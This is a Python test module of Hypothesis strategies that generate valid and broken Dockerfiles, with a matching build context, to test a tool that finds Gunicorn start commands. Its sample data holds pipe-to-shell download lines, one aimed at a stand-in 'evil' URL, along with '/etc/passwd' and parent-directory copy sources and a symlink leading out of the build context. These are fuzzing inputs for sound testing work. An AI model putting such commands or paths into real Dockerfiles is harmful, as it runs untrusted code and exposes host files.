"""Hypothesis strategies that generate Dockerfiles as people write them, and break them.

`dockerfiles()` returns the bytes of one file. It draws parser directives, where
`# escape=` switches the continuation character to a backtick, and global ARGs used
in FROM. It draws one to three stages with names and `FROM stage`, and every
instruction type in upper, lower and mixed case, in exec and shell form. Line
continuations have comments and blank lines inside, and heredocs come several per
line, with `<<-` and quoted terminators. The last stage usually starts Gunicorn in
one of the shapes dockerfix recognises. The bytes get LF, CRLF or mixed line
endings, sometimes a UTF-8 BOM and no final newline. With `broken=True` it also adds
junk lines and damage that makes the file invalid.

The COPY and ADD sources refer to the files that `make_build_context` creates.
"""

from __future__ import annotations

import gzip
import io
import json
import shlex
import tarfile
from dataclasses import dataclass
from pathlib import Path

from hypothesis import strategies as st

# Files of the build context that generated COPY and ADD lines refer to. A symlink
# in the context points at OUTSIDE_FILE, which lies next to the context.
OUTSIDE_FILE = "outside-secret.txt"
CONTEXT_FILES = {
    "app.py": "from flask import Flask\napp = Flask(__name__)\n",
    "requirements.txt": "flask==3.0.0\ngunicorn==22.0.0\n",
    "src/__init__.py": "",
    "src/wsgi.py": "from app import app\n",
    "start.sh": "#!/bin/sh\nexec gosu app gunicorn app:app\n",
    "entrypoint.sh": '#!/bin/sh\nset -e\nexec "$@"\n',
    "gunicorn.conf.py": "workers = 3\n",
    "notes.txt": "plain text\n",
}
# Real tar archives. The second one has a name that does not look like a tar.
TAR_FILES = ("vendor.tar.gz", "disguised.bin")


def make_build_context(root: Path) -> Path:
    """Create under root the build context that generated files refer to, and return it."""
    context = root / "context"
    for name, text in CONTEXT_FILES.items():
        path = context / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    archive = _tar_gz({"notes.txt": CONTEXT_FILES["notes.txt"].encode()})
    for name in TAR_FILES:
        (context / name).write_bytes(archive)
    (root / OUTSIDE_FILE).write_text("sentinel outside the build context\n")
    (context / "link-out.txt").symlink_to(Path("..") / OUTSIDE_FILE)
    return context


def _tar_gz(members: dict[str, bytes]) -> bytes:
    """Return a gzipped tar of members with fixed timestamps, so copies are identical."""
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as compressed:
        with tarfile.open(fileobj=compressed, mode="w") as archive:
            for name, data in members.items():
                info = tarfile.TarInfo(name)
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@dataclass(frozen=True)
class Style:
    """Choices that hold for the whole file."""

    escape: str  # the continuation character in effect: "\\" or "`"


# Pieces of text the generated instructions are made of.

IMAGES = (
    "python:3.12-slim", "python:3.12", "python:3.8", "python:3.11-alpine",
    "python:3.10-slim-bullseye", "python:3.12-slim@sha256:" + "a" * 64,
    "alpine:3.19", "ubuntu:22.04", "debian:bookworm-slim", "centos:7", "amazonlinux:2",
    "registry.access.redhat.com/ubi9/python-311",
    "registry.access.redhat.com/ubi9/ubi-minimal", "registry.access.redhat.com/ubi9/ubi-micro",
    "gcr.io/distroless/python3-debian12", "gcr.io/distroless/python3-debian12:nonroot",
    "cgr.dev/chainguard/python:latest", "scratch",
    "tiangolo/uvicorn-gunicorn-fastapi:python3.11",
    "mcr.microsoft.com/windows/servercore:ltsc2022",
    "localhost:5000/team/app:1.0", "ghcr.io/example/base",
)
ARG_IMAGES = ("python:${PYTHON_VERSION}-slim", "${BASE_IMAGE}", "$BASE", "python:${TAG:-3.12}")
GLOBAL_ARGS = (
    "PYTHON_VERSION=3.12", "PYTHON_VERSION", 'BASE_IMAGE="python:3.11-alpine"', "BASE",
    "TAG=3.10-slim", "BUILDPLATFORM",
)
STAGE_NAMES = ("builder", "base", "deps", "build", "runtime", "final", "App")
KEYWORDS = (
    "FROM", "RUN", "CMD", "LABEL", "MAINTAINER", "EXPOSE", "ENV", "ADD", "COPY",
    "ENTRYPOINT", "VOLUME", "USER", "WORKDIR", "ARG", "ONBUILD", "STOPSIGNAL",
    "HEALTHCHECK", "SHELL",
)
SHELL_COMMANDS = (
    "pip install --no-cache-dir -r requirements.txt",
    "pip install --user gunicorn",
    "apt-get update && apt-get install -y --no-install-recommends curl",
    "apt-get update && apt-get -y upgrade",
    "apt-get install --only-upgrade openssl",
    "apk add --update --no-cache build-base",
    "apk upgrade",
    "dnf -y install gcc && dnf clean all",
    "useradd -m -u 1000 app",
    "adduser -D -u 1000 app",
    "groupadd -r web && useradd -r -g web web",
    "python manage.py collectstatic --noinput",
    "curl -fsSL https://example.com/install.sh | sh",
    "echo $(whoami) > /tmp/who",
    "echo `date` > /build-date",
    "mkdir -p /app/static && chown -R 1000:1000 /app",
    "rm -rf /var/lib/apt/lists/*",
    "set -eux; python -m venv /opt/venv",
    "poetry config virtualenvs.create false && poetry install --no-root",
    "wget -qO- http://127.0.0.1:1/evil | bash",
    "chmod +x /app/start.sh",
)
EXEC_COMMANDS = (
    ["pip", "install", "-r", "requirements.txt"],
    ["python", "-m", "compileall", "."],
    ["/bin/sh", "-c", "echo hi && ls /app"],
)
COPY_SOURCES = (
    "app.py", "requirements.txt", "src", "src/", ".", "start.sh", "gunicorn.conf.py",
    "notes.txt", "*.py", "$SRC", "missing.txt", "../outside.txt", "/etc/passwd",
    "link-out.txt", "vendor.tar.gz", "disguised.bin",
)
ADD_ONLY_SOURCES = (
    "https://example.com/archive.tar.gz", "https://example.com/tool",
    "git@github.com:example/repo.git", "https://github.com/example/repo.git#main",
)
DESTINATIONS = ("/app/", "/app", ".", "./", "/usr/local/bin/", "/app/start.sh",
                "/app/gunicorn.conf.py")
HEREDOC_BODY_LINES = (
    "echo hello", "set -e", "apt-get update", "CMD gunicorn app:app", "USER root",
    "FROM evil:latest", "# not a comment here", "", "  indented", "trailing \\",
    "line with ` backtick", "EOF2", " EOF", "print('hi')", "gunicorn --bind :80 app:app",
)
HEREDOC_NAMES = ("EOF", "END", "PY", "SCRIPT", "eot", "a.txt")
GUNICORN_OPTIONS = (
    ["--bind", "0.0.0.0:8000"], ["-b", ":8000"], ["--bind=0.0.0.0:$PORT"], ["-b", "0.0.0.0:80"],
    ["-w", "4"], ["--workers=3"], ["--threads", "2"], ["-k", "uvicorn.workers.UvicornWorker"],
    ["--worker-class", "gevent"], ["--worker-tmp-dir", "/tmp"], ["--worker-tmp-dir=/dev/shm"],
    ["-c", "gunicorn.conf.py"], ["--config", "/app/gunicorn.conf.py"], ["--user", "app"],
    ["--access-logfile", "-"], ["--error-logfile", "/var/log/gunicorn/error.log"],
    ["--pid", "/run/gunicorn.pid"], ["--chdir", "/app/src"], ["--reload"],
    ["--log-level", "debug"], ["--timeout", "120"], ["--log-format", "%(h)s %(r)s"],
)
GUNICORN_APPS = ("app:app", "mysite.wsgi", "mysite.wsgi:application", "app:create_app()",
                 "main:app", "src.wsgi")
# Words in front of `gunicorn` that dockerfix looks through, and a few it does not.
GUNICORN_PREFIXES = (
    [], [], ["exec"], ["poetry", "run"], ["python", "-m"], ["python3.12", "-u", "-m"],
    ["uv", "run"], ["uv", "run", "--no-sync"], ["pipenv", "run"], ["pdm", "run"],
    ["hatch", "run"], ["ddtrace-run"], ["opentelemetry-instrument", "--traces_exporter", "console"],
    ["newrelic-admin", "run-program"], ["env", "FOO=1"], ["gosu", "app"], ["su-exec", "app"],
    ["tini", "--"], ["dumb-init"], ["python", "-m", "debugpy", "--listen", "5678", "-m"],
    ["sudo", "-u", "app"],
)
SHELL_BEFORE = ("python manage.py migrate && ", "cd /app && ", "FOO=bar ", "set -e; ",
                "python manage.py migrate; ", "sleep 1 || true && ")
SHELL_AFTER = (" > /tmp/gunicorn.log 2>&1", " | tee /tmp/log", " &", " && echo done")
SHELLS = (["sh", "-c"], ["/bin/sh", "-c"], ["/bin/bash", "-lc"], ["bash", "-ec"],
          ["/usr/bin/env", "bash", "-c"])
JUNK_LINES = (
    "this is not an instruction", "RUN", "FROM", "CMD []", "CMD ['gunicorn', 'app:app']",
    "ENV", "  \t  ", "\\", "`", "<<EOF", "EOF", "}", "RUN echo 'unterminated",
    "COPY", "HEALTHCHECK", "ONBUILD", "ONBUILD ONBUILD RUN x", "USER root # comment",
    "# escape=`", "#", "RUN \u00e9\u00e8 caf\u00e9 \u2603", "\ufeffRUN after bom", "RUN \r",
    "EXPOSE 80 \\ ", "ADD", "LABEL a", "SHELL not-json", "HEALTHCHECK CMD",
)
DAMAGE = ("nul", "invalid utf-8", "truncate", "open heredoc", "open continuation",
          "no from", "only comments", "empty")


# Small drawing helpers.


def _keyword(draw, name: str) -> str:
    """Draw how a keyword is written: upper case mostly, sometimes lower or mixed."""
    style = draw(st.sampled_from(("upper", "upper", "upper", "lower", "title")))
    if style == "lower":
        return name.lower()
    if style == "title":
        return name.title()
    return name


def _shell_word(word: str) -> str:
    return shlex.quote(word) if any(c in word for c in " ()'\"%") else word


def _json_array(draw, words: list[str]) -> list[str]:
    """Return an exec-form array split into pieces a continuation may break between."""
    separator = draw(st.sampled_from((", ", ",", " , ")))
    encoded = [json.dumps(word) for word in words]
    pieces = [item + separator.rstrip() for item in encoded[:-1]] + [encoded[-1]] if encoded else []
    open_bracket = draw(st.sampled_from(("[", "[ ")))
    close_bracket = draw(st.sampled_from(("]", " ]")))
    if not pieces:
        return [open_bracket + close_bracket]
    pieces[0] = open_bracket + pieces[0]
    pieces[-1] = pieces[-1] + close_bracket
    if separator == ",":
        # Pieces are joined with a space unless a continuation breaks there, so
        # join them here to keep the separator exactly as drawn.
        return ["".join(pieces)] if draw(st.booleans()) else pieces
    return pieces


def _render(draw, style: Style, keyword: str, pieces: list[str]) -> list[str]:
    """Write a logical line as physical lines, maybe broken by continuations."""
    lines = []
    current = _keyword(draw, keyword) + (" " + pieces[0] if pieces and pieces[0] else "")
    for piece in pieces[1:]:
        if draw(st.integers(0, 4)) < 4:
            current += " " + piece
            continue
        spacing = draw(st.sampled_from((" ", " ", "")))
        trailing = draw(st.sampled_from(("", "", " ", "\t")))
        lines.append(current + spacing + style.escape + trailing)
        for _ in range(draw(st.integers(0, 2))):
            lines.append(draw(st.sampled_from((
                "", "    # a comment inside the continuation", "# comment ending in \\",
                "  ", "#", "\t# tab comment",
            ))))
        indent = draw(st.sampled_from(("    ", "  ", "\t", "")))
        current = indent + piece
    lines.append(current)
    return lines


def _heredoc_instruction(draw, style: Style, keyword: str) -> list[str]:
    """Write RUN, COPY or ADD with one or more heredocs and their bodies."""
    count = draw(st.integers(1, 3))
    names = draw(st.lists(st.sampled_from(HEREDOC_NAMES), min_size=count, max_size=count,
                          unique=True))
    headers, bodies = [], []
    for name in names:
        strip_tabs = draw(st.booleans())
        quote = draw(st.sampled_from(("", "", '"', "'")))
        descriptor = draw(st.sampled_from(("", "", "3"))) if keyword == "RUN" else ""
        headers.append(f"{descriptor}<<{'-' if strip_tabs else ''}{quote}{name}{quote}")
        body = []
        for line in draw(st.lists(st.sampled_from(HEREDOC_BODY_LINES), max_size=4)):
            if line == name or (strip_tabs and line.lstrip("\t") == name):
                continue
            body.append(("\t" if strip_tabs and draw(st.booleans()) else "") + line)
        terminator = ("\t" if strip_tabs and draw(st.booleans()) else "") + name
        bodies.append(body + [terminator])
    if keyword == "RUN":
        command = draw(st.sampled_from(("", "", "cat", "python3", "bash -e", "sh -c 'cat'")))
        pieces = ([command] if command else []) + headers
    else:
        flags = draw(st.sampled_from(([], ["--chmod=755"], ["--chown=1000:1000"])))
        pieces = flags + headers + [draw(st.sampled_from(("/app/", "/app/start.sh", "/etc/x")))]
    lines = _render(draw, style, keyword, pieces)
    for body in bodies:
        lines.extend(body)
    return lines


# Instructions.


def _run(draw, style: Style) -> list[str]:
    kind = draw(st.sampled_from(("shell", "shell", "exec", "heredoc", "flags")))
    if kind == "heredoc":
        return _heredoc_instruction(draw, style, "RUN")
    if kind == "exec":
        return _render(draw, style, "RUN", _json_array(draw, draw(st.sampled_from(EXEC_COMMANDS))))
    commands = draw(st.lists(st.sampled_from(SHELL_COMMANDS), min_size=1, max_size=3))
    pieces = []
    for index, command in enumerate(commands):
        pieces.extend(command.split(" ") if draw(st.booleans()) else [command])
        if index < len(commands) - 1:
            pieces.append(draw(st.sampled_from(("&&", ";", "||"))))
    if kind == "flags":
        pieces.insert(0, draw(st.sampled_from((
            "--mount=type=cache,target=/root/.cache/pip", "--network=none",
            "--mount=type=bind,from=builder,source=/wheels,target=/wheels",
            "--mount=type=secret,id=token",
        ))))
    return _render(draw, style, "RUN", pieces)


def _copy_or_add(draw, style: Style, keyword: str, stages: list[str]) -> list[str]:
    if draw(st.integers(0, 6)) == 6:
        return _heredoc_instruction(draw, style, keyword)
    pool = COPY_SOURCES + (ADD_ONLY_SOURCES if keyword == "ADD" else ())
    sources = draw(st.lists(st.sampled_from(pool), min_size=1, max_size=3, unique=True))
    destination = draw(st.sampled_from(DESTINATIONS))
    flag_pool = ["--chown=1000:1000", "--chown=app:app", "--chmod=644", "--link"]
    if keyword == "ADD":
        flag_pool += ["--checksum=sha256:" + "b" * 64, "--keep-git-dir=true", "--unpack=true"]
    elif stages:
        flag_pool += [f"--from={name}" for name in stages] + ["--from=0"]
    flags = draw(st.lists(st.sampled_from(flag_pool), max_size=2, unique=True))
    if draw(st.integers(0, 4)) == 4:
        return _render(draw, style, keyword, flags + _json_array(draw, sources + [destination]))
    return _render(draw, style, keyword, flags + sources + [destination])


def _env(draw, style: Style) -> list[str]:
    pairs = draw(st.lists(st.sampled_from((
        "PYTHONUNBUFFERED=1", "PYTHONDONTWRITEBYTECODE=1", "PORT=8000", "PORT=80",
        'APP_HOME="/app"', "PATH=/root/.local/bin:$PATH", 'PATH="/opt/venv/bin:$PATH"',
        "WEB_CONCURRENCY=4", "DJANGO_SETTINGS_MODULE=mysite.settings", "SRC=.",
        "GREETING='hello world'", 'EMPTY=""',
    )), min_size=1, max_size=3, unique=True))
    if len(pairs) == 1 and draw(st.booleans()):
        name, _, value = pairs[0].partition("=")
        return _render(draw, style, "ENV", [name, value or '""'])  # legacy `ENV NAME value`
    return _render(draw, style, "ENV", pairs)


def _gunicorn_cmd_args_env(draw, style: Style) -> list[str]:
    tokens = [token for option in draw(st.lists(st.sampled_from(GUNICORN_OPTIONS), max_size=3))
              for token in option]
    value = " ".join(_shell_word(token) for token in tokens)
    shape = draw(st.sampled_from(("double", "single", "bare", "legacy", "with others")))
    if shape == "legacy" and value:
        return _render(draw, style, "ENV", ["GUNICORN_CMD_ARGS"] + value.split(" "))
    if shape == "bare" and " " not in value:
        return _render(draw, style, "ENV", [f"GUNICORN_CMD_ARGS={value}"])
    if shape == "single" and "'" not in value:
        return _render(draw, style, "ENV", [f"GUNICORN_CMD_ARGS='{value}'"])
    pieces = [f'GUNICORN_CMD_ARGS="{value}"']
    if shape == "with others":
        pieces = ["PORT=8000"] + pieces + ["WEB_CONCURRENCY=2"]
    return _render(draw, style, "ENV", pieces)


def _other(draw, style: Style, stages: list[str]) -> list[str]:
    """Draw one of the instructions that carry no command."""
    keyword = draw(st.sampled_from((
        "ARG", "LABEL", "EXPOSE", "WORKDIR", "USER", "VOLUME", "HEALTHCHECK",
        "STOPSIGNAL", "SHELL", "ONBUILD", "MAINTAINER", "CMD", "ENTRYPOINT",
    )))
    choices = {
        "ARG": (["SRC=."], ["VERSION"], ["UID=1000"], ["PIP_INDEX_URL"]),
        "LABEL": (['maintainer="dev@example.com"'], ["version=1.0", 'description="a web app"'],
                  ["org.opencontainers.image.source=https://example.com/repo"]),
        "EXPOSE": (["8000"], ["80/tcp", "443"], ["$PORT"]),
        "WORKDIR": (["/app"], ["app"], ["$APP_HOME"], ["/srv/www"], ["/code"]),
        "USER": (["root"], ["0"], ["app"], ["1000:1000"], ["${UID}"], ["nobody"], ["0:0"]),
        "VOLUME": (['["/data"]'], ["/data", "/logs"], ["$DATA"], ["/app/media"]),
        "HEALTHCHECK": (["NONE"], ["--interval=30s", "CMD", "curl", "-f", "http://localhost:8000/",
                                   "||", "exit", "1"],
                        ["CMD", '["python", "-c", "print(1)"]']),
        "STOPSIGNAL": (["SIGTERM"], ["SIGQUIT"]),
        "SHELL": (['["/bin/bash", "-o", "pipefail", "-c"]'], ['["powershell", "-Command"]']),
        "ONBUILD": (["RUN", "pip", "install", "-r", "requirements.txt"], ["ADD", ".", "/app"],
                    ["COPY", ".", "/app"]),
        "MAINTAINER": (["Jane", "Doe", "<jane@example.com>"],),
        "CMD": (['["python", "app.py"]'], ["flask", "run", "--host=0.0.0.0"],
                ["['gunicorn',", "'app:app']"], ['["/app/start.sh"]'], ["./start.sh"]),
        "ENTRYPOINT": (['["/app/entrypoint.sh"]'], ['["gosu", "app"]'], ["/app/start.sh"],
                       ['["tini", "--"]']),
    }
    return _render(draw, style, keyword, list(draw(st.sampled_from(choices[keyword]))))


def _gunicorn(draw, style: Style) -> list[str]:
    """Draw the instructions that start Gunicorn, in one of the shapes people use."""
    options = draw(st.lists(st.sampled_from(GUNICORN_OPTIONS), max_size=3))
    prefix = list(draw(st.sampled_from(GUNICORN_PREFIXES)))
    program = draw(st.sampled_from(("gunicorn", "gunicorn", "/usr/local/bin/gunicorn",
                                    "/opt/venv/bin/gunicorn")))
    app = draw(st.sampled_from(GUNICORN_APPS))
    words = prefix + [program] + [token for option in options for token in option] + [app]

    shape = draw(st.sampled_from(("exec", "exec", "shell", "shell", "sh -c", "split",
                                  "shell entrypoint", "exec entrypoint")))
    lines: list[str] = []
    if draw(st.integers(0, 3)) == 3:
        lines += _gunicorn_cmd_args_env(draw, style)

    if shape == "exec":
        lines += _render(draw, style, "CMD", _json_array(draw, words))
    elif shape in ("shell", "shell entrypoint"):
        pieces = [_shell_word(word) for word in words]
        if draw(st.booleans()):
            pieces[0] = draw(st.sampled_from(SHELL_BEFORE)) + pieces[0]
        if draw(st.integers(0, 3)) == 3:
            pieces[-1] += draw(st.sampled_from(SHELL_AFTER))
        keyword = "CMD" if shape == "shell" else "ENTRYPOINT"
        lines += _render(draw, style, keyword, pieces)
        if shape == "shell entrypoint" and draw(st.booleans()):
            lines += _render(draw, style, "CMD", _json_array(draw, ["--reload"]))
    elif shape == "sh -c":
        script = " ".join(_shell_word(word) for word in words)
        if draw(st.booleans()):
            script = draw(st.sampled_from(SHELL_BEFORE)) + script
        keyword = draw(st.sampled_from(("CMD", "ENTRYPOINT")))
        lines += _render(draw, style, keyword,
                         _json_array(draw, draw(st.sampled_from(SHELLS)) + [script]))
    else:
        # ENTRYPOINT and CMD that Docker joins into one command.
        cut = draw(st.integers(1, len(words)))
        entrypoint = _render(draw, style, "ENTRYPOINT", _json_array(draw, words[:cut]))
        cmd = _render(draw, style, "CMD", _json_array(draw, words[cut:]))
        if shape == "exec entrypoint":
            cmd = _render(draw, style, "CMD", [_shell_word(word) for word in words[cut:]] or ['""'])
        lines += cmd + entrypoint if draw(st.booleans()) else entrypoint + cmd

    if draw(st.integers(0, 4)) == 4:
        lines += _render(draw, style, "ENV", ["WEB_CONCURRENCY=4"])
    return lines


def _instruction(draw, style: Style, stages: list[str]) -> list[str]:
    kind = draw(st.sampled_from(("RUN", "RUN", "COPY", "COPY", "ADD", "ENV", "other",
                                 "other", "comment", "blank")))
    if kind == "RUN":
        return _run(draw, style)
    if kind in ("COPY", "ADD"):
        return _copy_or_add(draw, style, kind, stages)
    if kind == "ENV":
        return _env(draw, style)
    if kind == "comment":
        return [draw(st.sampled_from(("# Install dependencies", "#comment", "   # indented",
                                      "# escape=`", "# syntax=docker/dockerfile:1",
                                      "# RUN not an instruction \\")))]
    if kind == "blank":
        return [draw(st.sampled_from(("", "", "   ", "\t")))]
    return _other(draw, style, stages)


def _from(draw, style: Style, stages: list[str], global_args: bool) -> tuple[list[str], str | None]:
    pool = list(IMAGES) + (list(ARG_IMAGES) if global_args else []) + stages
    if stages:
        pool += [name.upper() for name in stages]  # stage names are case-insensitive
    image = draw(st.sampled_from(pool))
    pieces = []
    if draw(st.integers(0, 5)) == 5:
        pieces.append(draw(st.sampled_from(("--platform=$BUILDPLATFORM", "--platform=linux/amd64"))))
    pieces.append(image)
    name = None
    if draw(st.booleans()):
        unused = [n for n in STAGE_NAMES if n.lower() not in {s.lower() for s in stages}]
        name = draw(st.sampled_from(unused))
        pieces += [draw(st.sampled_from(("AS", "as", "As"))), name]
    return _render(draw, style, "FROM", pieces), name


def _directives(draw) -> tuple[list[str], Style]:
    """Draw the parser directives at the top and the escape character they set."""
    chosen = draw(st.lists(st.sampled_from(("syntax", "escape")), max_size=2, unique=True))
    # NOTE: the oracle, dockerfile 3.4.0, wraps BuildKit v0.12.5. That version does
    # not know the check directive and stops reading directives at it, so check
    # comes last here.
    if draw(st.booleans()):
        chosen.append("check")
    lines, escape = [], "\\"
    for name in chosen:
        spelling = draw(st.sampled_from((name, name, name.upper())))
        around = draw(st.sampled_from((("# ", "="), ("#", "="), ("# ", " = "))))
        if name == "syntax":
            value = draw(st.sampled_from(("docker/dockerfile:1", "docker/dockerfile:1.7")))
        elif name == "check":
            value = "skip=JSONArgsRecommended"
        else:
            value = draw(st.sampled_from(("`", "\\")))
            escape = value
        lines.append(f"{around[0]}{spelling}{around[1]}{value}")
    if lines and draw(st.integers(0, 5)) == 5:
        # A comment or blank line first turns every directive into a plain comment.
        lines.insert(0, draw(st.sampled_from(("# a comment", ""))))
        escape = "\\"
    return lines, Style(escape)


@st.composite
def dockerfile_lines(draw, broken: bool = False) -> list[str]:
    """Draw a Dockerfile as physical lines without line endings."""
    lines, style = _directives(draw)
    global_args = draw(st.booleans())
    if global_args:
        for arg in draw(st.lists(st.sampled_from(GLOBAL_ARGS), min_size=1, max_size=3,
                                 unique_by=lambda a: a.split("=")[0])):
            lines += _render(draw, style, "ARG", [arg])
    stages: list[str] = []
    count = draw(st.integers(1, 3))
    for index in range(count):
        from_lines, name = _from(draw, style, stages, global_args)
        lines += from_lines
        for _ in range(draw(st.integers(0, 7))):
            lines += _instruction(draw, style, stages)
            if broken and draw(st.integers(0, 9)) == 9:
                lines.append(draw(st.one_of(st.sampled_from(JUNK_LINES), st.text(max_size=20))))
        if index == count - 1 and draw(st.integers(0, 5)) < 5:
            lines += _gunicorn(draw, style)
        if name:
            stages.append(name)
    return lines


def _join(draw, lines: list[str]) -> bytes:
    """Join lines with LF, CRLF or mixed endings, maybe with a BOM and no final newline."""
    mode = draw(st.sampled_from(("lf", "lf", "crlf", "mixed")))
    parts = []
    for line in lines:
        if mode == "mixed":
            ending = draw(st.sampled_from(("\n", "\r\n")))
        else:
            ending = "\r\n" if mode == "crlf" else "\n"
        parts.append(line + ending)
    text = "".join(parts)
    if draw(st.integers(0, 4)) == 4:
        text = text.rstrip("\r\n")  # no final newline
    if draw(st.integers(0, 5)) == 5:
        text = "\ufeff" + text
    return text.encode("utf-8")


def _damage(draw, data: bytes) -> bytes:
    kind = draw(st.sampled_from(DAMAGE))
    if kind == "nul":
        at = draw(st.integers(0, len(data)))
        return data[:at] + b"\x00" + data[at:]
    if kind == "invalid utf-8":
        at = draw(st.integers(0, len(data)))
        return data[:at] + draw(st.sampled_from((b"\xff", b"\xc3", b"\xe9t\xe9"))) + data[at:]
    if kind == "truncate":
        return data[: draw(st.integers(0, len(data)))]
    if kind == "open heredoc":
        return data.rstrip(b"\r\n") + b"\nRUN <<EOF\necho never closed\n"
    if kind == "open continuation":
        return data.rstrip(b"\r\n") + b"\nRUN echo one \\\n"
    if kind == "no from":
        return b"\n".join(line for line in data.split(b"\n") if b"FROM" not in line.upper())
    if kind == "only comments":
        return b"# syntax=docker/dockerfile:1\n# nothing else\n"
    return b""


@st.composite
def dockerfiles(draw, broken: bool = False) -> bytes:
    """Draw the bytes of a Dockerfile, with junk lines and damage when broken=True."""
    data = _join(draw, draw(dockerfile_lines(broken=broken)))
    if broken and draw(st.integers(0, 5)) == 5:
        data = _damage(draw, data)
    return data
